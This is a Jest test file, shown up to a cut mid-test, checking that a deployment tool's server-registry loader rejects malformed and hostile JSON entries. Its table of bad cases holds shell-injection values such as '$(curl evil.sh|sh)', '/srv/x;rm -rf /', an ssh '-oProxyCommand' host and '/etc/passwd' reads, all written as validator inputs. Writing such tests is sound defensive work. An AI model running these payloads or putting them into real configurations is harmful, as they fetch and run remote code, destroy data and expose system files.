import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, describe, expect, it } from '@jest/globals'
import { UserError } from '../../src/errors.js'
import { buildPlan } from '../../src/plan.js'
import { loadRegistry, RegistryError, type RegistryProblem } from '../../src/registry/load.js'
import { selectServers } from '../../src/registry/select.js'
import { makeServer } from './fixtures/servers.js'

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'registry-test-'))
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }))

let fileCount = 0
/** Writes a registry (an object, serialized with indentation, or raw text/bytes) to its own temp file. */
function writeRegistry(content: unknown, name = `registry-${++fileCount}.json`): string {
  const file = path.join(tmp, name)
  const data = typeof content === 'string' || Buffer.isBuffer(content) ? content : JSON.stringify(content, null, 2)
  fs.writeFileSync(file, data)
  return file
}

function loadError(file: string): RegistryError {
  try {
    loadRegistry(file)
  } catch (error) {
    expect(error).toBeInstanceOf(RegistryError)
    expect(error).toBeInstanceOf(UserError)
    return error as RegistryError
  }
  throw new Error(`expected ${file} to be rejected`)
}

function problemsOf(content: unknown): RegistryProblem[] {
  return loadError(writeRegistry(content)).details
}

const KEY_A = 'SHA256:Ncgbw6HDLfYBoYvH3b5dueXdqgKUkFUblr0pjtrMS6A'
const KEY_B = 'SHA256:jclu+xYqhqPMt3yo7IyoIzD8oEUR0AaDYUIOBSKYzzM'

/** A valid server entry, changed by `over`; `undefined` in `over` removes a field. */
function server(over: Record<string, unknown> = {}, index = 1): Record<string, unknown> {
  const entry: Record<string, unknown> = { name: `acme-${index}`, host: `acme-${index}.example.com`, tenant: 'acme', ...over }
  for (const key of Object.keys(entry)) if (entry[key] === undefined) delete entry[key]
  return entry
}

const one = (over: Record<string, unknown>): unknown => ({ servers: [server(over)] })

interface BadCase {
  title: string
  registry: unknown
  /** Every problem's path, in file order: exactly these and no others. */
  paths: string[]
  /** Words the (first) message must contain, so operators get the hint that matters. */
  says?: string[]
}

const badCases: BadCase[] = [
  // Shell injection, field by field.
  { title: 'name with ;', registry: one({ name: 'acme;reboot' }), paths: ['servers[0].name'], says: ['"acme;reboot"', 'lower-case letters'] },
  { title: 'name with $()', registry: one({ name: '$(curl evil.sh|sh)' }), paths: ['servers[0].name'] },
  { title: 'name with backticks', registry: one({ name: '`id`' }), paths: ['servers[0].name'] },
  { title: 'name with a space', registry: one({ name: 'acme 1' }), paths: ['servers[0].name'] },
  { title: 'name upper-case', registry: one({ name: 'Acme-1' }), paths: ['servers[0].name'] },
  { title: 'name of 64 characters', registry: one({ name: 'a'.repeat(64) }), paths: ['servers[0].name'] },
  { title: 'name starting with a dot', registry: one({ name: '..' }), paths: ['servers[0].name'] },
  { title: 'host with ;', registry: one({ host: 'acme.example.com;reboot' }), paths: ['servers[0].host'], says: ['"acme.example.com;reboot"', 'hostname'] },
  { title: 'host with $()', registry: one({ host: '$(reboot)' }), paths: ['servers[0].host'] },
  { title: 'host with backticks', registry: one({ host: '`reboot`.example.com' }), paths: ['servers[0].host'] },
  { title: 'host with a newline', registry: one({ host: 'acme.example.com\nreboot' }), paths: ['servers[0].host'], says: ['"acme.example.com\\nreboot"'] },
  { title: 'host as an ssh option', registry: one({ host: '-oProxyCommand=reboot' }), paths: ['servers[0].host'] },
  { title: 'host with user@', registry: one({ host: 'deploy@acme.example.com' }), paths: ['servers[0].host'] },
  { title: 'host with :port', registry: one({ host: 'acme.example.com:22' }), paths: ['servers[0].host'] },
  { title: 'host as a URL', registry: one({ host: 'ssh://acme.example.com' }), paths: ['servers[0].host'] },
  { title: 'host IPv4 out of range', registry: one({ host: '10.0.0.300' }), paths: ['servers[0].host'], says: ['"10.0.0.300"'] },
  { title: 'host IPv6 malformed', registry: one({ host: '2001:db8:::1' }), paths: ['servers[0].host'] },
  { title: 'host IPv6 in brackets', registry: one({ host: '[2001:db8::1]' }), paths: ['servers[0].host'] },
  { title: 'tenant with backticks', registry: one({ tenant: '`id`' }), paths: ['servers[0].tenant'] },
  { title: 'tenant in defaults with $()', registry: { defaults: { tenant: '$(id)' }, servers: [server({ tenant: undefined })] }, paths: ['defaults.tenant'] },
  { title: 'region with a quote', registry: one({ region: "eu'west" }), paths: ['servers[0].region'] },
  { title: 'user with ;', registry: one({ user: 'root;id' }), paths: ['servers[0].user'], says: ['Linux user name'] },
  { title: 'user upper-case in defaults', registry: { defaults: { user: 'Deploy' }, servers: [server()] }, paths: ['defaults.user'] },
  // Paths that leave the project folder or the shell word.
  { title: 'relative path', registry: one({ path: 'openclaw-prd' }), paths: ['servers[0].path'], says: ['absolute'] },
  { title: 'path with ..', registry: { servers: [server(), server({ path: '/home/deploy/../../etc' }, 2)] }, paths: ['servers[1].path'], says: ["'..'"] },
  { title: 'path ending in ..', registry: one({ path: '/home/deploy/..' }), paths: ['servers[0].path'] },
  { title: 'path with a . folder', registry: one({ path: '/home/./deploy' }), paths: ['servers[0].path'] },
  { title: 'path with a space', registry: one({ path: '/home/deploy/open claw' }), paths: ['servers[0].path'] },
  { title: 'path with $()', registry: one({ path: '/home/$(id)' }), paths: ['servers[0].path'] },
  { title: 'path with ; in defaults', registry: { defaults: { path: '/srv/x;rm -rf /' }, servers: [server()] }, paths: ['defaults.path'] },
  { title: 'path with a trailing newline', registry: one({ path: '/home/deploy/openclaw\n' }), paths: ['servers[0].path'] },
  { title: 'path with ~', registry: one({ path: '~/openclaw-prd' }), paths: ['servers[0].path'] },
  { title: 'path that is /', registry: one({ path: '/' }), paths: ['servers[0].path'] },
  { title: 'path with a trailing /', registry: one({ path: '/srv/openclaw/' }), paths: ['servers[0].path'] },
  { title: 'path of 300 characters', registry: one({ path: `/${'a'.repeat(299)}` }), paths: ['servers[0].path'], says: ['300 characters'] },
  { title: 'healthUrl with ;', registry: one({ healthUrl: 'http://127.0.0.1:18789/health;reboot' }), paths: ['servers[0].healthUrl'] },
  { title: 'healthUrl with a quote and space', registry: one({ healthUrl: "http://127.0.0.1/health' -o /etc/passwd" }), paths: ['servers[0].healthUrl'] },
  { title: 'healthUrl with &', registry: one({ healthUrl: 'http://127.0.0.1/health?a=1&reboot' }), paths: ['servers[0].healthUrl'] },
  { title: 'healthUrl with $()', registry: one({ healthUrl: 'http://$(id)/health' }), paths: ['servers[0].healthUrl'] },
  { title: 'healthUrl file://', registry: one({ healthUrl: 'file:///etc/passwd' }), paths: ['servers[0].healthUrl'] },
  { title: 'healthUrl port 99999', registry: one({ healthUrl: 'http://127.0.0.1:99999/health' }), paths: ['servers[0].healthUrl'], says: ['65535'] },
  { title: 'services item with ;', registry: one({ services: ['gateway', 'db;reboot'] }), paths: ['servers[0].services[1]'] },
  { title: 'services listed twice', registry: one({ services: ['gateway', 'gateway'] }), paths: ['servers[0].services'], says: ['"gateway" twice'] },
  { title: 'services as a string', registry: one({ services: 'gateway' }), paths: ['servers[0].services'], says: ['is the text "gateway"'] },
  { title: 'imageVariable with =', registry: one({ imageVariable: 'OPENCLAW_IMAGE=evil' }), paths: ['servers[0].imageVariable'] },
  { title: 'imageVariable starting with a digit', registry: one({ imageVariable: '1IMAGE' }), paths: ['servers[0].imageVariable'] },
  // Host keys.
  { title: 'hostKey MD5', registry: one({ hostKey: 'MD5:16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48' }), paths: ['servers[0].hostKey'], says: ['SHA256'] },
  { title: 'hostKey with = padding', registry: one({ hostKey: `${KEY_A}=` }), paths: ['servers[0].hostKey'] },
  { title: 'hostKey empty list', registry: one({ hostKey: [] }), paths: ['servers[0].hostKey'], says: ['an empty list []'] },
  { title: 'hostKey list with a bad item', registry: one({ hostKey: [KEY_A, 'SHA256:short'] }), paths: ['servers[0].hostKey[1]'] },
  { title: 'hostKey list with a repeat', registry: one({ hostKey: [KEY_A, KEY_A] }), paths: ['servers[0].hostKey'] },
  { title: 'hostKey as a number', registry: one({ hostKey: 42 }), paths: ['servers[0].hostKey'] },
  // Labels.
  { title: 'label key with a space', registry: one({ labels: { 'bad key': 'x' } }), paths: ['servers[0].labels["bad key"]'], says: ['label key'] },
  { title: 'label value with $()', registry: one({ labels: { owner: '$(id)' } }), paths: ['servers[0].labels.owner'] },
  { title: 'label value a number', registry: one({ labels: { tier: 1 } }), paths: ['servers[0].labels.tier'] },
  { title: 'label key with a newline', registry: one({ labels: { 'a\nb': 'x' } }), paths: ['servers[0].labels["a\\nb"]'] },
  // Unknown fields.
  { title: 'misspelt healthUrl', registry: one({ healtUrl: 'http://127.0.0.1:18789/health' }), paths: ['servers[0].healtUrl'], says: ['Did you mean "healthUrl"?'] },
  { title: 'health_url', registry: one({ health_url: 'http://127.0.0.1:18789/health' }), paths: ['servers[0].health_url'], says: ['Did you mean "healthUrl"?'] },
  { title: 'hostname instead of host', registry: one({ host: undefined, hostname: 'acme.example.com' }), paths: ['servers[0].host', 'servers[0].hostname'] },
  { title: 'image instead of imageVariable', registry: one({ image: 'ghcr.io/acme/openclaw:1' }), paths: ['servers[0].image'], says: ['Did you mean "imageVariable"', 'input "image"'] },
  { title: 'disabled instead of enabled', registry: one({ disabled: true }), paths: ['servers[0].disabled'], says: ['"enabled": false'] },
  { title: 'misspelt field in defaults', registry: { defaults: { prot: 2222 }, servers: [server()] }, paths: ['defaults.prot'], says: ['Did you mean "port"?'] },
  { title: 'unknown top-level field', registry: { server: [server()] }, paths: ['servers', 'server'] },
  { title: '__proto__ field', registry: '{"servers": [{"name": "a", "host": "a.example.com", "tenant": "acme", "__proto__": {"enabled": false}}]}', paths: ['servers[0].__proto__'] },
  { title: 'unrelated unknown field lists the allowed ones', registry: one({ color: 'blue' }), paths: ['servers[0].color'], says: ['Allowed: name, host, tenant'] },
  // Duplicates and missing pieces.
  { title: 'duplicate names', registry: { servers: [server(), server({ name: 'acme-1' }, 2)] }, paths: ['servers[1].name'], says: ['servers[0] already uses'] },
  {
    title: 'duplicate host+port+path',
    registry: { servers: [server(), server({ host: 'acme-1.example.com' }, 2)] },
    paths: ['servers[1]'],
    says: ['same host, port and path as servers[0] ("acme-1")']
  },
  {
    title: 'duplicate host+port+path through defaults and host case',
    registry: { defaults: { port: 2222 }, servers: [server({ path: '/srv/a' }), server({ path: '/srv/b' }, 2), server({ host: 'ACME-1.example.com', port: 2222, path: '/srv/a' }, 3)] },
    paths: ['servers[2]']
  },
  { title: 'missing name', registry: one({ name: undefined }), paths: ['servers[0].name'], says: ['is missing'] },
  { title: 'missing host', registry: one({ host: undefined }), paths: ['servers[0].host'], says: ['is missing'] },
  { title: 'missing tenant without defaults', registry: { servers: [server(), server({ tenant: undefined }, 2)] }, paths: ['servers[1].tenant'], says: ['defaults sets no tenant'] },
  { title: 'name in defaults', registry: { defaults: { name: 'x' }, servers: [server()] }, paths: ['defaults.name'], says: ['every server needs its own name'] },
  { title: 'host in defaults', registry: { defaults: { host: 'x.example.com' }, servers: [server()] }, paths: ['defaults.host'] },
  // Wrong types and ranges.
  { title: 'port as text', registry: one({ port: '22' }), paths: ['servers[0].port'], says: ['is the text "22"', '1 to 65535'] },
  { title: 'port 0', registry: one({ port: 0 }), paths: ['servers[0].port'], says: ['is 0'] },
  { title: 'port 70000', registry: one({ port: 70000 }), paths: ['servers[0].port'], says: ['is 70000'] },
  { title: 'port 22.5', registry: one({ port: 22.5 }), paths: ['servers[0].port'] },
  { title: 'enabled as text', registry: one({ enabled: 'false' }), paths: ['servers[0].enabled'], says: ['without quotes'] },
  { title: 'host null', registry: one({ host: null }), paths: ['servers[0].host'], says: ['is null'] },
  { title: 'server as a string', registry: { servers: ['acme-1.example.com'] }, paths: ['servers[0]'] },
  { title: 'defaults as a list', registry: { defaults: [], servers: [server()] }, paths: ['defaults'] },
  { title: 'empty servers', registry: { servers: [] }, paths: ['servers'], says: ['non-empty list'] },
  { title: 'no servers', registry: { defaults: { tenant: 'acme' } }, paths: ['servers'], says: ['is missing'] },
  { title: 'servers as an object', registry: { servers: { 'acme-1': server() } }, paths: ['servers'] },
  { title: 'top level a list', registry: [server()], paths: [''], says: ['The file is a list'] },
  {
    title: 'duplicate JSON key',
    registry: '{"servers": [{"name": "a", "host": "a.example.com", "tenant": "acme", "enabled": false, "enabled": true}]}',
    paths: ['servers[0].enabled'],
    says: ['appears twice']
  },
  // Many problems in one file: all reported, in file order.
  {
    title: 'several problems at once',
    registry: { defaults: { user: 'r00t!' }, servers: [server({ port: 0 }), server({ host: 'a b' }, 2), server({ name: 'acme-1', healthurl: 'x' }, 3)] },
    paths: ['defaults.user', 'servers[0].port', 'servers[1].host', 'servers[2].name', 'servers[2].healthurl']
  }
]

describe('loadRegistry rejects malformed and hostile registries', () => {
  it('has at least 40 cases', () => expect(badCases.length).toBeGreaterThanOrEqual(40))

  it.each(badCases.map(c => [c.title, c] as const))('%s', (_title, c) => {
    const file = writeRegistry(c.registry)
    const error = loadError(file)
    expect(error.details.map(p => p.path)).toEqual(c.paths)
    for (const words of c.says ?? []) expect(error.details[0].message).toContain(words)
    for (const [index, problem] of error.details.entries()) {
      // Each problem names the file, where in it, the path, and what is allowed.
      expect(error.problems[index]).toMatch(new RegExp(`^${escapeRegExp(file)}:\\d+:\\d+: `))
      expect(problem.message.startsWith(problem.path || 'The file')).toBe(true)
      expect(problem.message).toMatch(/allowed|Allowed|required|appears twice/)
    }
    expect(error.message).toContain(`The server registry ${file} is not valid (${c.paths.length} problem`)
  })
})

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
}

describe('problem messages and positions', () => {
  it('lists the first 100 problems of a file with more, and keeps them all in problems', () => {
    const error = loadError(writeRegistry({ servers: Array.from({ length: 150 }, (_, i) => server({ port: 0 }, i)) }))
    expect(error.problems).toHaveLength(150)
    expect(error.message).toMatch(/is not valid; the first 100 of 150 problems follow \(100 problems\):/)
    expect(error.message.split('\n')).toHaveLength(101)
  })

  it('suggests the field a misspelt one stands for', () => {
    const messages = (content: unknown): string => loadError(writeRegistry(content)).problems.join('\n')
    expect(messages(one({ host: undefined, hostname: 'acme.example.com' }))).toContain('servers[0].hostname is not a field of a server. Did you mean "host"?')
    expect(messages({ server: [server()] })).toContain('server is not a field of the top level of the registry. Did you mean "servers"?')
  })

  it('points at the line and column of the bad value', () => {
    const text = ['{', '  "servers": [', '    { "name": "acme-1", "host": "acme-1.example.com", "tenant": "acme",', '      "port": 70000 }', '  ]', '}'].join('\n')
    const [problem] = problemsOf(text)
    expect(problem).toMatchObject({ path: 'servers[0].port', line: 4, column: 15 })
  })

  it('points a missing field at the object that lacks it', () => {
    const text = '{\n  "servers": [\n    { "name": "acme-1", "tenant": "acme" }\n  ]\n}'
    expect(problemsOf(text)[0]).toMatchObject({ path: 'servers[0].host', line: 3, column: 5 })
  })
})

describe('big bad registries', () => {
  // Registries of this size are generated, not typed; rejecting one must take time linear in its
  // size (it took a minute when every problem's line was counted from the start of the file). The
  // limits are loose because test machines are shared; bench/registry-errors.mjs prints the real times.
  const SECONDS = 5
  const line = (i: number, extra: string): string => `    {"name": "s-${i}", "host": "s-${i}.example.com", "tenant": "acme"${extra}}`
  const registryOf = (lines: string[]): string => `{\n  "servers": [\n${lines.join(',\n')}\n  ]\n}\n`

  function timedError(text: string): { error: RegistryError; seconds: number } {
    const file = writeRegistry(text)
    const started = performance.now()
    const error = loadError(file)
    return { error, seconds: (performance.now() - started) / 1000 }
  }

  it('20,000 bad ports: each on its own line, the first 100 listed and the count given', () => {
    const { error, seconds } = timedError(registryOf(Array.from({ length: 20000 }, (_, i) => line(i, ', "port": 0'))))
    expect(seconds).toBeLessThan(SECONDS)
    expect(error.details).toHaveLength(20000)
    for (const i of [0, 1, 9999, 19999]) {
      const column = line(i, ', "port": 0').indexOf('"port": 0') + '"port": '.length + 1
      expect(error.details[i]).toMatchObject({ path: `servers[${i}].port`, line: i + 3, column })
      expect(error.details[i].message).toBe(`servers[${i}].port is 0; allowed: a whole number from 1 to 65535 (default 22).`)
    }
    expect(error.message).toMatch(/is not valid; the first 100 of 20000 problems follow \(100 problems\):/)
    expect(error.message.split('\n')).toHaveLength(101)
    expect(error.message.split('\n')[100]).toContain(`:102:${line(99, '').length + ', "port": '.length}: servers[99].port is 0`)
  })

  it('40,000 repeated keys: both lines of each named', () => {
    const { error, seconds } = timedError(registryOf(Array.from({ length: 20000 }, (_, i) => line(i, ', "port": 22, "port": 23,\n      "user": "a", "user": "b"'))))
    expect(seconds).toBeLessThan(SECONDS)
    expect(error.details).toHaveLength(40000)
    const server = 12345
    const [port, user] = error.details.slice(2 * server, 2 * server + 2)
    // Where the second "port" key starts, the one JSON.parse keeps.
    const column = line(server, ', "port": 22, "port"').lastIndexOf('"port"') + 1
    expect(port).toMatchObject({ path: `servers[${server}].port`, line: 2 * server + 3, column })
    expect(port.message).toContain(`servers[${server}].port appears twice in the same object (lines ${2 * server + 3} and ${2 * server + 3})`)
    expect(user).toMatchObject({ path: `servers[${server}].user`, line: 2 * server + 4, column: '      "user": "a", '.length + 1 })
    expect(error.message).toMatch(/the first 100 of 40000 problems follow/)
  })

  it('labels nested 5,000 deep: read as JSON.parse reads them, and rejected by the schema at the label', () => {
    const deep = `${'{"x": '.repeat(5000)}"v"${'}'.repeat(5000)}`
    const text = registryOf([line(0, ''), line(1, `, "labels": {"team": ${deep}}`)])
    expect(() => JSON.parse(text)).not.toThrow()
    const { error, seconds } = timedError(text)
    expect(seconds).toBeLessThan(SECONDS)
    const column = line(1, ', "labels": {"team": ').length
    expect(error.details).toEqual([expect.objectContaining({ path: 'servers[1].labels.team', line: 4, column })])
    expect(error.details[0].message).toBe('servers[1].labels.team is an object; allowed: a text of at most 128 letters, digits and . _ : / @ + = , - (no spaces or shell characters).')
  })

  it('nesting as deep as the size limit allows, in a list or with a repeated key at every level', () => {
    const list = timedError(`{"servers": [{"name": "a", "host": "a.example.com", "tenant": "acme", "services": [${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}]}]}`)
    expect(list.seconds).toBeLessThan(SECONDS)
    expect(list.error.details).toEqual([expect.objectContaining({ path: 'servers[0].services[0]' })])
    expect(list.error.details[0].message).toMatch(/^servers\[0\]\.services\[0\] is a list \(\[{81}…\]\); allowed: /)

    const repeats = timedError(`{"servers": [{"name": "a", "host": "a.example.com", "tenant": "acme", "labels": {"x": ${'{"k": 1, "k": 2, "x": '.repeat(100_000)}1${'}'.repeat(100_000)}}}]}`)
    expect(repeats.seconds).toBeLessThan(SECONDS)
    expect(repeats.error.details.map(p => p.path)).toEqual(['servers[0].labels.x'])
  })

  it('a long list of host keys, each wrong', () => {
    const { error, seconds } = timedError(`{"servers": [{"name": "a", "host": "a.example.com", "tenant": "acme", "hostKey": [${Array.from({ length: 100_000 }, (_, i) => i).join(', ')}]}]}`)
    expect(seconds).toBeLessThan(SECONDS)
    expect(error.details).toHaveLength(100_000)
    expect(error.details[99_999]).toMatchObject({ path: 'servers[0].hostKey[99999]' })
  })
})

describe('unreadable files', () => {
  const messageOf = (file: string): string => loadError(file).problems.join('\n')

  it.each([
    ['trailing comma', '{\n  "servers": [\n    {"name": "a", "host": "a.example.com", "tenant": "t"},\n  ]\n}', 3, 58, "trailing comma before ']'"],
    ['missing comma', '{\n  "servers": [\n    {"name": "a"\n     "host": "a.example.com"}\n  ]\n}', 4, 6, "expected ',' between properties"],
    ['single quotes', "{\n  'servers': []\n}", 2, 3, 'double quotes'],
    ['a comment', '{\n  // production\n  "servers": []\n}', 2, 3, 'JSON has no comments'],
    ['an unclosed string', '{\n  "servers": [{"name": "a}]\n}', 2, 24, 'not closed before the end of its line'],
    ['a cut-off file', '{\n  "servers": [\n', 3, 1, 'ends where a value was expected'],
    ['text after the end', '{"servers": []}\n}', 2, 1, 'after the end of the top-level value'],
    ['a bare word', '{"servers": [{"name": acme}]}', 1, 23, 'expected a value'],
    ['a number with a leading zero', '{"servers": [{"port": 022}]}', 1, 23, 'not a JSON number']
  ])('invalid JSON: %s gives line and column', (_title, text, line, column, reason) => {
    const file = writeRegistry(text)
    const error = loadError(file)
    expect(error.details).toEqual([expect.objectContaining({ path: '', line, column })])
    expect(error.problems[0]).toContain(`${file}:${line}:${column}: invalid JSON: `)
    expect(error.problems[0]).toContain(reason)
  })

  it('shows the offending line', () => {
    expect(messageOf(writeRegistry('{\n  "servers": [ {"name": "a",} ]\n}'))).toMatch(/:2:28: invalid JSON: .* The line reads: "servers": \[ \{"name": "a",\} \]$/)
  })

  it('shows the stretch of a long line around the mistake', () => {
    const line = `{"servers": [${Array.from({ length: 20 }, (_, i) => `{"name": "s-${i}"}`).join(', ')}, {"name": "x" "host": "y"}]}`
    expect(messageOf(writeRegistry(line))).toMatch(/The line reads: ….*\{"name": "x" "host": "y"\}\]\}$/)
  })

  it('reads nesting deep enough to exhaust the stack as far as JSON.parse does, and says where a cut-off file ends', () => {
    const file = writeRegistry(`{"servers": ${'['.repeat(100000)}`)
    expect(loadError(file).details).toEqual([expect.objectContaining({ path: '', line: 1, column: 100013 })])
    expect(messageOf(file)).toContain('the file ends where a value was expected')
  })

  it('rejects an empty file', () => {
    const error = loadError(writeRegistry(''))
    expect(error.message).toMatch(/^The server registry .* cannot be read \(1 problem\):/)
    expect(error.problems[0]).toContain('the file is empty')
    expect(messageOf(writeRegistry('  \n\t\n'))).toContain('the file is empty')
  })

  it('rejects a folder and lists the JSON files in it', () => {
    const folder = path.join(tmp, 'servers-folder')
    fs.mkdirSync(folder)
    fs.writeFileSync(path.join(folder, 'production.json'), '{}')
    const message = messageOf(folder)
    expect(message).toContain('this is a folder, not a file')
    expect(message).toContain('"servers-file"')
    expect(message).toContain(path.join(folder, 'production.json'))
  })

  it('explains a missing file and how to point servers-file at it', () => {
    const message = messageOf(path.join(tmp, 'nowhere', 'production.json'))
    expect(message).toContain('file not found')
    expect(message).toContain('set the input "servers-file"')
    expect(message).toContain('actions/checkout')
    expect(message).toContain('"host"')
  })

  it('suggests a similarly named file next to a missing one', () => {
    writeRegistry({ servers: [server()] }, 'prodution.json')
    expect(messageOf(path.join(tmp, 'production.json'))).toContain(`Did you mean ${path.join(tmp, 'prodution.json')}?`)
  })

  it('accepts a UTF-8 byte order mark', () => {
    const file = writeRegistry(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify({ servers: [server()] }))]))
    expect(loadRegistry(file).servers.map(s => s.name)).toEqual(['acme-1'])
  })

  it('rejects UTF-16 and says to save as UTF-8', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify({ servers: [server()] }), 'utf16le')])
    expect(messageOf(writeRegistry(utf16))).toContain('UTF-16')
  })

  it('rejects bytes that are not UTF-8, naming the line', () => {
    const latin1 = Buffer.concat([Buffer.from('{\n  "servers": [\n    {"name": "'), Buffer.from([0xe9]), Buffer.from('"}]}')])
    expect(messageOf(writeRegistry(latin1))).toContain('not UTF-8 text (the first bad byte is on line 3)')
  })
})

describe('loadRegistry resolves valid registries', () => {
  it('one server gets every default', () => {
    const registry = loadRegistry(writeRegistry({ servers: [{ name: 'solo', host: '203.0.113.5', tenant: 'acme' }] }))
    expect(registry.servers).toEqual([makeServer('solo', 'acme', undefined, { host: '203.0.113.5' })])
    expect(registry.servers[0]).not.toHaveProperty('region')
  })

  it('3 tenants across 2 regions keep file order and select by filters', () => {
    const file = writeRegistry({
      servers: [
        { name: 'acme-eu', host: 'acme-eu.example.com', tenant: 'acme', region: 'eu-west' },
        { name: 'globex-us', host: '2001:db8::21', tenant: 'globex', region: 'us-east', port: 2222 },
        { name: 'initech-eu', host: '203.0.113.7', tenant: 'initech', region: 'eu-west' },
        { name: 'acme-us', host: 'acme-us.example.com', tenant: 'acme', region: 'us-east' },
        // Same host as globex-us but a different project folder: a second tenant on one machine.
        { name: 'initech-us', host: '2001:db8::21', tenant: 'initech', region: 'us-east', port: 2222, path: '/home/deploy/openclaw-initech' }
      ]
    })
    const registry = loadRegistry(file)
    expect(registry.file).toBe(file)
    expect(registry.servers.map(s => `${s.name}:${s.tenant}:${s.region}`)).toEqual([
      'acme-eu:acme:eu-west',
      'globex-us:globex:us-east',
      'initech-eu:initech:eu-west',
      'acme-us:acme:us-east',
      'initech-us:initech:us-east'
    ])
    const plan = buildPlan(selectServers(registry, { tenants: [], regions: ['us-east'], servers: [] }), { mode: 'deploy', image: 'registry.local/openclaw:2', canary: 1 })
    expect(plan.entries.map(e => [e.order, e.server.name, e.canary, e.image])).toEqual([
      [1, 'globex-us', true, 'registry.local/openclaw:2'],
      [2, 'acme-us', false, 'registry.local/openclaw:2'],
      [3, 'initech-us', false, 'registry.local/openclaw:2']
    ])
  })

  it('heavy use of defaults: every field inherited, own values win, labels merge', () => {
    const registry = loadRegistry(
      writeRegistry({
        defaults: {
          tenant: 'acme',
          region: 'eu-west',
          port: 2222,
          user: 'openclaw',
          path: '/srv/openclaw',
          healthUrl: 'http://localhost:18790/healthz',
          services: ['gateway'],
          imageVariable: 'GATEWAY_IMAGE',
          hostKey: KEY_A,
          enabled: false,
          labels: { team: 'platform', tier: 'silver' }
        },
        servers: [
          { name: 'a-1', host: 'a-1.example.com' },
          { name: 'a-2', host: 'a-2.example.com', enabled: true, hostKey: [KEY_A, KEY_B], labels: { tier: 'gold' } },
          { name: 'b-1', host: 'b-1.example.com', tenant: 'beta', region: 'us-east', port: 22, services: [], enabled: true }
        ]
      })
    )
    expect(registry.servers).toEqual([
      {
        name: 'a-1',
        host: 'a-1.example.com',
        tenant: 'acme',
        region: 'eu-west',
        port: 2222,
        user: 'openclaw',
        path: '/srv/openclaw',
        healthUrl: 'http://localhost:18790/healthz',
        services: ['gateway'],
        imageVariable: 'GATEWAY_IMAGE',
        hostKeys: [KEY_A],
        enabled: false,
        labels: { team: 'platform', tier: 'silver' }
      },
      expect.objectContaining({ name: 'a-2', tenant: 'acme', enabled: true, hostKeys: [KEY_A, KEY_B], labels: { team: 'platform', tier: 'gold' } }),
      expect.objectContaining({ name: 'b-1', tenant: 'beta', region: 'us-east', port: 22, services: [], user: 'openclaw', enabled: true })
    ])
    const plan = buildPlan(selectServers(registry, { tenants: [], regions: [], servers: [] }), { mode: 'deploy', image: '', canary: 1 })
    expect(plan.entries.map(e => [e.order, e.server.name, e.action, e.canary, e.skipReason ?? e.image])).toEqual([
      [1, 'a-2', 'deploy', true, '(current image from .env, re-pulled)'],
      [2, 'b-1', 'deploy', false, '(current image from .env, re-pulled)'],
      [3, 'a-1', 'skip', false, 'disabled in the registry ("enabled": false)']
    ])
  })

  it('does not share arrays between the defaults and the servers', () => {
    const registry = loadRegistry(writeRegistry({ defaults: { tenant: 'acme', services: ['gateway'] }, servers: [server(), server({}, 2)] }))
    registry.servers[0].services.push('db')
    expect(registry.servers[1].services).toEqual(['gateway'])
  })

  it('accepts the hosts the schema promises', () => {
    const hosts = ['localhost', 'a', 'gw-1.eu.example.com', 'GW1.Example.COM', '10.0.0.1', '::1', '2001:db8::10', '::ffff:203.0.113.5', 'fe80::1:2:3:4']
    const registry = loadRegistry(writeRegistry({ servers: hosts.map((host, i) => server({ host }, i)) }))
    expect(registry.servers.map(s => s.host)).toEqual(hosts)
  })

  it('accepts the example registry shipped in docs/examples', () => {
    const registry = loadRegistry(fileURLToPath(new URL('../../docs/examples/production.json', import.meta.url)))
    const tenants = new Set(registry.servers.map(s => s.tenant))
    const regions = new Set(registry.servers.map(s => s.region))
    expect(tenants).toEqual(new Set(['acme', 'globex', 'initech']))
    expect(regions).toEqual(new Set(['eu-west', 'us-east']))
    expect(registry.servers.filter(s => !s.enabled).map(s => s.name)).toEqual(['globex-eu-2'])
  })
})

describe('jump hosts', () => {
  const bastion = { host: 'bastion.example.com', user: 'ops', hostKey: KEY_A }

  it("resolves a server's jump host with its defaults: port 22, the server's user", () => {
    const registry = loadRegistry(writeRegistry({ servers: [server({ jump: { host: 'bastion.example.com' }, user: 'admin' }), server({ jump: bastion }, 2), server({}, 3)] }))
    expect(registry.servers.map(s => s.jump)).toEqual([
      { host: 'bastion.example.com', port: 22, user: 'admin', hostKeys: [] },
      { host: 'bastion.example.com', port: 22, user: 'ops', hostKeys: [KEY_A] },
      undefined
    ])
  })

  it('applies defaults.jump to every server, and "jump": null reaches one directly', () => {
    const registry = loadRegistry(writeRegistry({ defaults: { jump: { ...bastion, port: 2222, hostKey: [KEY_A, KEY_B] } }, servers: [server(), server({ jump: null }, 2)] }))
    expect(registry.servers.map(s => s.jump)).toEqual([{ host: 'bastion.example.com', port: 2222, user: 'ops', hostKeys: [KEY_A, KEY_B] }, undefined])
  })

  it.each([
    ['an unknown field', { ...bastion, proxy: 'x' }, 'servers[0].jump.proxy', /is not a field of a jump host\. Allowed: host, port, user, hostKey/],
    ['no host', { user: 'ops' }, 'servers[0].jump.host', /is missing; required: a hostname/],
    ['a host with a user in it', { host: 'ops@bastion.example.com' }, 'servers[0].jump.host', /allowed: a hostname/],
    ['an address that cannot exist', { host: '10.0.0.300' }, 'servers[0].jump.host', /allowed: a hostname/],
    ['a bad port', { host: 'b.example', port: 0 }, 'servers[0].jump.port', /allowed: a whole number from 1 to 65535/],
    ['a bad fingerprint', { host: 'b.example', hostKey: 'MD5:aa' }, 'servers[0].jump.hostKey', /allowed: an OpenSSH SHA256 fingerprint/],
    ['text instead of an object', 'bastion.example.com', 'servers[0].jump', /is the text "bastion.example.com"; allowed: an object with "host"/]
  ])('refuses %s', (_title, jump, at, says) => {
    const problems = problemsOf(one({ jump }))
    expect(problems.map(p => p.path)).toEqual([at])
    expect(problems[0]!.message).toMatch(says)
  })

  it('tells one host behind two jump hosts from the same host twice', () => {
    const twice = { servers: [server({ host: '10.0.0.5', jump: bastion }), server({ host: '10.0.0.5', jump: { host: 'bastion-2.example.com' } }, 2)] }
